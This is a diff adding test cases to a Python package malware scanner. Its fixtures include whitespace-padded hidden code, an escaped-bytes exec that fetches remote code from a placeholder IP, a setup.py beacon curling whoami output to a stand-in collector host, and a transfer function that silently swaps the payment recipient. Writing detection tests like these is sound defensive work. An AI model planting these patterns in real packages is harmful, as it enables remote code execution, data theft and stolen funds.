@@ -2230,6 +2230,7 @@ def test_install_process_benign_cli_printing_a_curl_example(tmp_path: Path, scan
 
 
 POSITIVE_TESTS: dict[str, str] = {
+    "recipient-swap": "test_recipient_swap_fires_for_constant_address_in_a_callers_transfer",
     "serialized-exec": "carriers_serialized_exec",
     "sourceless-bytecode": "carriers_sourceless_bytecode",
     "disguised-file": "carriers_disguised_file",
@@ -2425,3 +2426,103 @@ def start_server(port):
 def test_detached_process_started_on_request_is_not_flagged(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {INIT: DETACHED_WHEN_CALLED}), scanner)
     assert_quiet(result, "detached-process")
+
+
+PADDED_PAYLOAD = (
+    'VERSION = "1.0"' + " " * 6000 + ';import os;os.system("echo inert > /dev/null")\n'
+    "def version():\n    return VERSION\n"
+)
+PADDED_TABLE = (
+    '"""Sizes.\n\n| name |' + " " * 400 + '| size |\n"""\nSIZES = {"a": 1}' + " " * 200 + "# padded\n"
+)
+ESCAPED_BYTES_EXEC = (
+    "import requests\n"
+    "exec(b'"
+    + "".join(f"\\x{b:02x}" for b in b"exec(requests.get('http://192.0.2.1:8080/1.txt').text)")
+    + "')\n"
+)
+
+
+def test_obfuscation_fires_for_code_pushed_far_right_at_import(tmp_path: Path, scanner: Scanner) -> None:
+    # Thousands of spaces: wider than a YARA match may be, the case a pattern rule missed.
+    result = scan(write_sdist(tmp_path, {INIT: PADDED_PAYLOAD}), scanner)
+    assert_fires(result, "obfuscation", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_obfuscation_quiet_for_padded_tables_and_comments(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: PADDED_TABLE}), scanner)
+    assert_quiet(result, "obfuscation")
+
+
+def test_download_exec_fires_for_escaped_bytes_given_to_exec(tmp_path: Path, scanner: Scanner) -> None:
+    # exec(b"\x65\x78...") runs its bytes as source: the payload inside is analysed like any code.
+    result = scan(write_sdist(tmp_path, {INIT: ESCAPED_BYTES_EXEC}), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+IDENTITY_BY_COMMAND_TO_CURL = """import os
+import urllib.parse
+
+try:
+    who = os.popen("whoami")
+    sent = urllib.parse.quote_plus(who.read())
+    target = "https://collector.invalid/?" + sent
+    os.system("curl " + target)
+except Exception:
+    pass
+"""
+HOSTNAME_FOR_OWN_SERVICE_WHEN_CALLED = """import subprocess
+
+import requests
+
+
+def register_worker(api="https://api.example.com/workers"):
+    host = subprocess.check_output(["hostname"], text=True).strip()
+    return requests.post(api, json={"host": host}, timeout=10)
+"""
+
+
+def test_install_beacon_fires_for_identity_read_by_a_command(tmp_path: Path, scanner: Scanner) -> None:
+    # `whoami` read through a shell, then handed to curl: getpass.getuser() spelt as a command.
+    result = scan(write_sdist(tmp_path, {"setup.py": setup_py(IDENTITY_BY_COMMAND_TO_CURL)}), scanner)
+    assert_fires(result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_install_beacon_quiet_for_hostname_sent_to_own_service_when_called(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: HOSTNAME_FOR_OWN_SERVICE_WHEN_CALLED}), scanner)
+    assert_quiet(result, "install-beacon", not_verdict=Verdict.SUSPICIOUS)
+
+
+RECIPIENT_SWAP_TRANSFER = """def transfer(client, wallet, destination, amount):
+    if not client.is_valid_address(destination):
+        raise ValueError(f"invalid destination {destination}")
+    params = {"dest": "5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY", "value": amount}
+    return client.submit(wallet, "transfer", params)
+"""
+RECIPIENT_FROM_CALLER = """DEFAULT_FAUCET = "0x000000000000000000000000000000000000dEaD"
+
+
+def transfer(client, wallet, destination, amount):
+    params = {"dest": destination, "value": amount}
+    return client.submit(wallet, "transfer", params)
+
+
+def refill(client, wallet, amount):
+    return client.submit(wallet, "transfer", {"to": DEFAULT_FAUCET, "value": amount})
+"""
+
+
+def test_recipient_swap_fires_for_constant_address_in_a_callers_transfer(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # The caller's destination is checked and printed, and the money goes to a written-in address.
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/transfer.py": RECIPIENT_SWAP_TRANSFER}), scanner)
+    assert_fires(result, "recipient-swap", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_recipient_swap_quiet_when_the_destination_is_the_callers(tmp_path: Path, scanner: Scanner) -> None:
+    # A function without a destination parameter may pay a fixed address (a faucet refill).
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/transfer.py": RECIPIENT_FROM_CALLER}), scanner)
+    assert_quiet(result, "recipient-swap")
